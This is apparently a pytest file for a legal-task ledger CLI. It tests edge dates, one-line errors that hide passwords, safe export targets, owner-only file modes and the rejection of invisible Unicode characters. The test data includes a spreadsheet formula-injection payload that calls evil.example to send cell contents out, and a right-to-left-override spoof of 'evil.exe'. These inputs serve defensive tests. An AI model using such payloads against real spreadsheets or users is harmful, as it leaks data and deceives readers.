"""The edges a careless or hostile officer finds (issue 13, items 12 and 14).

Dates at the ends of the calendar, errors nobody planned for, log cells a spreadsheet would
run, outputs aimed at devices, pipes or the ledger itself, and names made of invisible
characters. Each test failed before its fix.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from typer.testing import Result

from lawtasks.cli import app
from lawtasks.domain import FIELD_LIMIT, NOTE_LIMIT, clean_text
from lawtasks.errors import DomainError

from . import test_cli
from .test_cli import Cli, one_error_line

# The CLI suite's fixtures: a seeded ledger per test, on SQLite and on PostgreSQL.
cli = test_cli.cli
seeded_template = test_cli.seeded_template
seeded_postgres_template = test_cli.seeded_postgres_template

POSIX = pytest.mark.skipif(os.name != "posix", reason="POSIX file modes and special files")


# -- item 12: no tracebacks at the ends of the calendar ----------------------------------


def test_log_windows_at_the_ends_of_the_calendar_are_open_ends(cli: Cli) -> None:
    cli.ok("set", "2.1", "--progress", "30")
    everything = cli.json("log")["events"]
    assert len(everything) == 3  # the import and the two changes
    # --since 0001-01-01 means from the beginning, --until 9999-12-31 up to now.
    assert cli.json("log", "--since", "0001-01-01")["events"] == everything
    assert cli.json("log", "--until", "9999-12-31")["events"] == everything
    assert cli.json("log", "--since", "0001-01-01", "--until", "9999-12-31")["events"] == (
        everything
    )
    assert cli.json("log", "--since", "9999-12-31")["events"] == []
    assert cli.json("log", "--until", "0001-01-01")["events"] == []
    assert cli.json("log", "2.1", "--since", "0001-01-01")["events"] == everything[1:]


@pytest.mark.sqlite_only
def test_export_since_the_first_day_lists_every_change(cli: Cli) -> None:
    cli.ok("set", "2.1", "--progress", "30")
    # The window ends at the as-of date (the test's 2022-06-01 comes before any event).
    assert "0 → 30" not in cli.ok("export", "-f", "md", "--since", "0001-01-01").stdout
    everything = cli.ok("export", "-f", "md", "--since", "0001-01-01", "--as-of", "9999-12-31")
    assert "progress 0 → 30" in everything.stdout


@pytest.mark.sqlite_only
def test_remind_within_any_number_of_days_reaches_the_last_due_date(cli: Cli) -> None:
    cli.ok("set", "6.4", "--due", "9999-12-31")
    found = cli.json("remind", "--within", "99999999999")
    # 6.4 has no lead unit: it is listed for the coordinator, with the units' items.
    listed = {item["id"] for unit in found["units"] for item in unit["items"]}
    listed |= {item["id"] for item in found["unassigned"]}
    assert "6.4" in listed
    # A window that reaches the calendar's last day holds every open item with a due date.
    due = {item["id"] for item in cli.items() if item["due"] and item["status"] != "done"}
    assert due <= listed


@pytest.mark.sqlite_only
def test_remind_on_the_last_day_of_the_calendar(cli: Cli) -> None:
    cli.ok("set", "1.1", "--due", "2022-06-30", "--unit", "县司法局")
    text = cli.ok("remind", today="9999-12-31").stdout
    assert "县司法局" in text
    assert "1.1" in text
    units = cli.json("remind", today="9999-12-31")["units"]
    assert units[0]["items"][0]["warning"] == "red"


@pytest.mark.sqlite_only
def test_remind_refuses_a_negative_window(cli: Cli) -> None:
    line = one_error_line(cli("remind", "--within", "-1"))
    assert "--within -1" in line
    assert "0 or more" in line


@pytest.mark.sqlite_only
@pytest.mark.parametrize("today", ["0001-01-01", "9999-12-31"])
def test_reading_commands_at_the_ends_of_the_calendar(cli: Cli, today: str, tmp_path: Path) -> None:
    cli.ok("set", "1.1", "--due", "2022-06-30", "--unit", "县司法局")
    cli.ok("summary", today=today)
    assert len(cli.json("list", today=today)["tasks"]) == 6
    cli.ok("show", "1.1", today=today)
    cli.ok("list", "--due-before", "9999-12-31", today=today)
    for fmt in ("md", "csv", "json", "xlsx", "docx"):
        path = tmp_path / f"out.{fmt}"
        export = ("export", "-f", fmt, "--as-of", today, "-o", str(path))
        if today == "0001-01-01":
            # The ledger as it was that day: the plan was not imported yet, which is said.
            assert today in one_error_line(cli(*export))
            assert not path.exists()
            continue
        assert cli.ok(*export).exit_code == 0
        assert fmt in ("md", "csv", "json") or zipfile.is_zipfile(path)
    directory = tmp_path / "reminders"
    directory.mkdir()
    remind = ("remind", "-f", "docx", "--within", "99999999999", "-o", str(directory))
    assert cli(*remind, today=today).exit_code == 0  # lists the items without a unit on stderr
    # One notice for 县司法局's item; the untouched items, due at the end of 2022, have no
    # lead unit: they are listed for the coordinator, never addressed as a notice.
    notices = sorted(path.name for path in directory.glob("*.docx"))
    assert len(notices) == 1
    assert "县司法局" in notices[0]


# -- item 12: whatever escapes is one line, with a traceback only under --debug -----------


@pytest.mark.sqlite_only
def test_an_unexpected_error_is_one_line_naming_it(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    import lawtasks.render

    def broken(view: object) -> None:
        raise RuntimeError("boom\nsecond line")

    monkeypatch.setattr(lawtasks.render, "summary", broken)
    line = one_error_line(cli("summary"))
    assert "RuntimeError: boom" in line
    assert "--debug" in line
    assert "second line" not in line
    debugged = cli("--debug", "summary")
    assert isinstance(debugged.exception, RuntimeError)


@pytest.mark.sqlite_only
def test_an_unexpected_error_never_shows_the_password(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    import lawtasks.db

    url = "postgresql+psycopg://fzb:hunter2@127.0.0.1:1/ledger?password=hunter3"

    def broken(url: str) -> None:
        raise RuntimeError(f"cannot use {url}")

    monkeypatch.setattr(lawtasks.db, "make_engine", broken)
    result = cli.runner.invoke(app, ["--db", url, "summary"])
    line = one_error_line(result)
    assert "RuntimeError: cannot use postgresql+psycopg://fzb:" in line
    assert "hunter2" not in line
    assert "hunter3" not in line


@pytest.mark.sqlite_only
def test_a_sqlite_error_on_the_lean_path_is_explained(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lawtasks.fastread import Reader

    def damaged(self: Reader, **kwargs: object) -> None:
        raise sqlite3.DatabaseError("database disk image is malformed")

    monkeypatch.setattr(Reader, "load_plan", damaged)
    line = one_error_line(cli("list"))
    assert str(cli.db) in line
    assert "malformed" in line
    assert "Unexpected" not in line


@pytest.mark.slow
def test_the_installed_script_at_the_ends_of_the_calendar(tmp_path: Path) -> None:
    """The reported commands, through the real `lawtasks` script: no traceback, and the
    TZ of a zone east of UTC, where local midnight of 0001-01-01 fell before year 1."""
    import shutil
    import subprocess
    import sys

    script = shutil.which("lawtasks") or str(Path(sys.executable).with_name("lawtasks"))
    env = {**os.environ, "LAWTASKS_LANG": "en", "TZ": "Asia/Shanghai", "HOME": str(tmp_path)}
    base = [script, "--db", str(tmp_path / "l.db")]
    commands = [
        ["init"],
        ["remind", "--within", "99999999999"],
        ["--today", "9999-12-31", "remind"],
        ["log", "--until", "9999-12-31"],
        ["log", "--since", "0001-01-01"],
        ["export", "-f", "md", "--since", "0001-01-01"],
        ["--today", "0001-01-01", "summary"],
    ]
    for args in commands:
        result = subprocess.run(
            [*base, *args], env=env, capture_output=True, text=True, timeout=60, check=False
        )
        assert result.returncode == 0, (args, result.stderr)
        assert "Traceback" not in result.stderr
    result = subprocess.run(
        [*base, "remind", "--within", "-1"], env=env, capture_output=True, text=True, check=False
    )
    assert (result.returncode, result.stderr.count("\n")) == (1, 1), result.stderr


# -- item 14: log --format csv is inert in a spreadsheet --------------------------------


def test_log_csv_defuses_formulas(cli: Cli) -> None:
    cli.ok("note", "1.1", '=HYPERLINK("http://evil.example/?"&A1,"click")', user="=1+1")
    cli.ok("note", "1.2", "@SUM(1)", user="-2")
    rows = list(csv.reader(io.StringIO(cli.ok("log", "--format", "csv").stdout)))
    column = rows[0].index
    notes = [row for row in rows if row[column("action")] == "note"]
    assert [row[column("actor")] for row in notes] == ["'=1+1", "'-2"]
    assert [row[column("new")] for row in notes] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@SUM(1)",
    ]
    triggers = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(triggers) for row in rows for cell in row)


# -- item 14: outputs never replace what is not theirs -----------------------------------


def last_error_line(result: Result) -> str:
    """The error after any warnings: exit code 1, no traceback, the last line is lawtasks'."""
    assert result.exit_code == 1, (result.stdout, result.stderr, result.exception)
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    line = result.stderr.splitlines()[-1]
    assert line.startswith("lawtasks: ")
    return line


def _ledger_intact(cli: Cli, before: Mapping[str, object]) -> None:
    assert cli.dump() == before
    assert cli.ok("verify").exit_code == 0


@pytest.mark.sqlite_only
@pytest.mark.parametrize("name", ["ledger", "wal", "shm", "hard link", "symlink"])
def test_export_refuses_the_ledger_itself(cli: Cli, name: str) -> None:
    ledger = cli.db
    target = {
        "ledger": ledger,
        "wal": Path(f"{ledger}-wal"),
        "shm": Path(f"{ledger}-shm"),
        "hard link": ledger.with_name("copy.db"),
        "symlink": ledger.with_name("link.db"),
    }[name]
    if name == "hard link":
        os.link(ledger, target)
    if name == "symlink":
        target.symlink_to(ledger)
    before = cli.dump()
    line = one_error_line(cli("export", "-f", "csv", "-o", str(target)))
    assert str(target) in line
    assert "ledger" in line
    _ledger_intact(cli, before)


@pytest.mark.sqlite_only
def test_sheets_and_reminders_refuse_the_ledger_behind_a_link(cli: Cli, tmp_path: Path) -> None:
    cli.ok("set", "1.1", "--unit", "A", "--due", "2022-06-02")
    before = cli.dump()
    sheets, reminders = tmp_path / "sheets", tmp_path / "reminders"
    sheets.mkdir()
    reminders.mkdir()
    (sheets / "tonglu-2022-Return-A.xlsx").symlink_to(cli.db)
    (reminders / "tonglu-2022-Reminder notice-A.docx").symlink_to(cli.db)
    assert "ledger" in last_error_line(cli("sheets", "-o", str(sheets)))
    assert "ledger" in last_error_line(cli("remind", "-f", "docx", "-o", str(reminders)))
    # sheets records the sheets it sends before it writes them.
    assert cli.dump()["item"] == before["item"]
    assert cli.ok("verify").exit_code == 0
    assert sqlite3.connect(cli.db).execute("SELECT count(*) FROM item").fetchone() == (18,)


@POSIX
@pytest.mark.sqlite_only
def test_export_never_replaces_a_named_pipe_or_a_directory(cli: Cli, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    line = one_error_line(cli("export", "-f", "csv", "-o", str(fifo)))
    assert "named pipe" in line
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    # A directory is never replaced: the default name is written inside it (issue 16).
    cli.ok("export", "-f", "csv", "-o", str(tmp_path))
    assert (tmp_path / "tonglu-2022-ledger-2022-06-01.csv").is_file()
    assert tmp_path.is_dir()
    assert list(tmp_path.glob(".*.tmp")) == []


@POSIX
@pytest.mark.sqlite_only
@pytest.mark.skipif(os.name == "posix" and os.geteuid() != 0, reason="mknod needs root")
def test_export_never_replaces_a_device(cli: Cli, tmp_path: Path) -> None:
    # A /dev/null of our own (same major and minor), so that a failing test harms nothing.
    device = tmp_path / "null"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    line = one_error_line(cli("export", "-f", "csv", "-o", str(device)))
    assert "device" in line
    assert stat.S_ISCHR(device.lstat().st_mode)


@POSIX
@pytest.mark.sqlite_only
def test_exports_sheets_and_reminders_are_the_owners_alone(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = os.umask(0o022)
    try:
        cli.ok("set", "1.1", "--unit", "A", "--due", "2022-06-02")
        existing = tmp_path / "old.csv"
        existing.write_text("old")
        existing.chmod(0o644)
        files = [existing]
        cli.ok("export", "-f", "csv", "-o", str(existing))
        for fmt in ("md", "json", "xlsx", "docx"):
            files.append(tmp_path / f"out.{fmt}")
            cli.ok("export", "-f", fmt, "-o", str(files[-1]))
        assert cli("sheets", "-o", str(tmp_path)).exit_code == 0  # warns of units missing
        # remind lists the items without a lead unit on stderr.
        assert cli("remind", "-f", "docx", "-o", str(tmp_path)).exit_code == 0
        files += [*tmp_path.glob("*.xlsx"), *tmp_path.glob("*.docx")]
    finally:
        os.umask(old)
    # The old file, four exports, a sheet per unit and a reminder notice per unit.
    assert len(set(files)) >= 7
    assert {path.name: stat.S_IMODE(path.stat().st_mode) for path in files} == {
        path.name: 0o600 for path in files
    }
    assert existing.read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert list(tmp_path.glob(".*.tmp")) == []


@POSIX
@pytest.mark.sqlite_only
def test_an_export_through_a_symlink_writes_the_file_and_keeps_the_link(
    cli: Cli, tmp_path: Path
) -> None:
    real = tmp_path / "real.json"
    real.write_text("{}")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    cli.ok("export", "-f", "json", "-o", str(link))
    assert link.is_symlink()
    assert json.loads(real.read_text())["schema"] == 1


# -- item 14: invisible characters ------------------------------------------------------

# Each makes a value look like another, or read in another order than it is stored.
INVISIBLE = [
    "\u200b",  # zero width space
    "\u200c",
    "\u200d",
    "\u200e",  # left-to-right mark
    "\u200f",
    "\u202a",  # left-to-right embedding
    "\u202e",  # right-to-left override
    "\u2060",  # word joiner
    "\u2064",
    "\u2066",  # left-to-right isolate
    "\u2069",
    "\ufeff",  # BOM, zero width no-break space
    "\u00ad",  # soft hyphen: category Cf
    "\u061c",  # Arabic letter mark
    "\u180e",  # Mongolian vowel separator
    "\U000e0001",  # language tag: category Cf
    "\u3164",  # Hangul filler: a letter that draws nothing
]
BIDI = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2069"]


@pytest.mark.parametrize("char", INVISIBLE)
@pytest.mark.parametrize("field", ["lead_unit", "user", "responsible_person", "target"])
def test_a_one_line_value_refuses_invisible_characters(char: str, field: str) -> None:
    with pytest.raises(DomainError) as caught:
        clean_text(f"县司法局{char}", field=field, limit=FIELD_LIMIT)
    assert caught.value.key == "error.invisible_char"
    assert caught.value.params["code"] == f"U+{ord(char):04X}"


@pytest.mark.parametrize("char", BIDI)
def test_a_note_refuses_bidi_controls(char: str) -> None:
    with pytest.raises(DomainError) as caught:
        clean_text(f"已完成{char}50%", field="note", limit=NOTE_LIMIT, multiline=True)
    assert caught.value.params["code"] == f"U+{ord(char):04X}"


def test_a_note_keeps_zero_width_characters_pasted_with_its_text() -> None:
    # Notes are read, never matched on; WeChat and Word paste these, and joiners make emoji.
    text = "进展\u200b顺利 👨\u200d💻\n下一步\u2060"
    assert clean_text(text, field="note", limit=NOTE_LIMIT, multiline=True) == text


def test_ordinary_names_pass() -> None:
    for name in ("县司法局", "Zhang San", "县委政法委、县法院", "𠮷野家", "葛\U000e0100"):
        assert clean_text(name, field="lead_unit", limit=FIELD_LIMIT) == name


def test_two_units_that_look_alike_cannot_both_exist(cli: Cli) -> None:
    cli.ok("set", "1.1", "--unit", "县司法局")
    before = cli.dump()
    for option, value in (("--unit", "县司法局\u200b"), ("--person", "张\u202e三")):
        line = one_error_line(cli("set", "1.2", option, value))
        assert "U+200B" in line or "U+202E" in line
    assert "lead unit" in one_error_line(cli("set", "1.2", "--unit", "县\u2060司法局"))
    assert "U+202E" in one_error_line(cli("note", "1.2", "see \u202eevil.exe"))
    assert cli.dump() == before


def test_a_user_name_with_an_invisible_character_is_refused(cli: Cli) -> None:
    cli.ok("users", "add", "fzb", "--coordinator", user="fzb")
    before = cli.dump()
    line = one_error_line(cli("users", "add", "fzb\u200b", "--unit", "县司法局", user="fzb"))
    assert "user name" in line
    assert "U+200B" in line
    line = one_error_line(cli("users", "add", "wang", "--unit", "县司法局\ufeff", user="fzb"))
    assert "U+FEFF" in line
    assert cli.dump() == before


def test_the_screen_shows_bidi_controls_instead_of_obeying_them() -> None:
    from lawtasks.render import printable

    assert printable("a\u202eb\x1bc") == "a\\u202eb\\x1bc"


def test_a_report_loses_its_invisible_characters() -> None:
    from lawtasks.parser import _normalise

    assert _normalise("一、\u202e加强\u200b法治\ufeff\u2066建设\x07") == ["一、加强法治建设"]
